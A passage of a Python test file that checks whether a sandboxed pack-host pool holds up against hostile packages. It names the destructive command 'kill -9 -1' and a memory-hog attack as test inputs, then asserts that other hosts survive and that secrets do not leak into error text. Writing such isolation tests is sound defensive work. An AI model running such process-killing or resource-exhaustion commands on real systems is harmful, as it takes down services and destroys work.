    """``kill -9 -1`` inside the host: the host dies (it may signal itself), nothing outside it does."""
    victim_env = env_of(archives["victim"])
    first = alive(small_pool, hostile_env)
    victim_answer, _ = small_pool.execute(victim_env, "victim.Hello", {}, Context("v"))
    victim_pid = small_pool.host(victim_env).pid
    # As its own uid in its own pid namespace the host can signal nothing but itself (kill(-1) spares the
    # caller and the namespace's init): ESRCH, or the host's death where it runs as the init's uid.
    with pytest.raises((RemoteError, PackHostError), match="ProcessLookupError|exited|killed") as caught:
        call(small_pool, hostile_env, "KillAll")
    assert small_pool.host(victim_env).alive and small_pool.host(victim_env).pid == victim_pid
    assert small_pool.execute(victim_env, "victim.Hello", {}, Context("v"))[0] == victim_answer == ["hello"]
    assert (alive(small_pool, hostile_env) == first) == isinstance(caught.value, RemoteError)
    prove_listening(canary["server"])  # the canary server's thread in this process survived too


def test_resource_attacks_never_raise_node_errors_that_leak(small_pool, hostile_env, canary, secret_values):
    """A failing node's error text carries the host's output tail: it must not carry a canary either."""
    with pytest.raises((RemoteError, PackHostError)) as caught:
        call(small_pool, hostile_env, "MemoryHog", {"bytes": 4096 * MIB})
    assert_never_shown(secret_values, str(caught.value), getattr(caught.value, "remote_traceback", ""))
